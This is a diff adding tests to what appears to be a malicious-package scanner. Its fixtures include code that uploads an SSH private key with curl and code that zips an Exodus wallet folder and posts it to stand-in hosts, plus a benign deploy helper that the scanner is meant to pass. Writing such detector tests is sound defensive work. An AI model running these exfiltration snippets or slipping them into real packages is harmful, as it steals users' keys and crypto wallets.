@@ -264,3 +264,44 @@ def test_one_variable_in_an_sdk_base_url_is_no_exfiltration(tmp_path):
     }
     result = scan(files, tmp_path)
     assert result.risk.level not in HIGH, [t.id for t in result.threats]
+
+
+# ---------------------------------------------------------------- secrets handed to a client
+def test_curl_uploading_an_ssh_key_is_exfiltration(tmp_path):
+    files = {
+        "pkg/__init__.py": (
+            "import os\nimport subprocess\n"
+            "subprocess.run(['curl', '-s', '-F', 'f=@' + os.path.expanduser('~/.ssh/id_rsa'),"
+            " 'https://up.example.invalid/u'])\n"
+        )
+    }
+    assert_high_with("curl -F @key", scan(files, tmp_path), {"chain.exfiltration"})
+
+
+def test_a_wallet_folder_archived_and_posted_is_exfiltration(tmp_path):
+    files = {
+        "pkg/__init__.py": (
+            "import os\nimport shutil\nimport requests\n"
+            "w = os.path.join(os.getenv('APPDATA'), 'Exodus', 'exodus.wallet')\n"
+            "shutil.make_archive('/tmp/e', 'zip', w)\n"
+            "requests.post('https://collect.example.invalid/w', files={'f': open('/tmp/e.zip', 'rb')})\n"
+        )
+    }
+    assert_high_with("wallet archive", scan(files, tmp_path), {"chain.exfiltration"})
+
+
+def test_a_deploy_helper_logging_in_with_an_ssh_key_is_no_exfiltration(tmp_path):
+    """scp and rsync take an identity file to log in; archiving the project is a backup."""
+    files = {
+        "pkg/__init__.py": "",
+        "pkg/deploy.py": (
+            "import os\nimport shutil\nimport subprocess\n\n\ndef deploy(host):\n"
+            "    shutil.make_archive('dist/site', 'zip', 'build')\n"
+            "    key = os.path.expanduser('~/.ssh/deploy_key')\n"
+            "    subprocess.run(['scp', '-i', key, 'dist/site.zip', host + ':/srv'])\n"
+            "    subprocess.run(['rsync', '-e', 'ssh -i ' + key, 'build/', host + ':/srv'])\n"
+            "    subprocess.run(['curl', '-fsS', 'https://status.example.invalid/ok'])\n"
+        ),
+    }
+    result = scan(files, tmp_path)
+    assert result.risk.level not in HIGH, [t.id for t in result.threats]
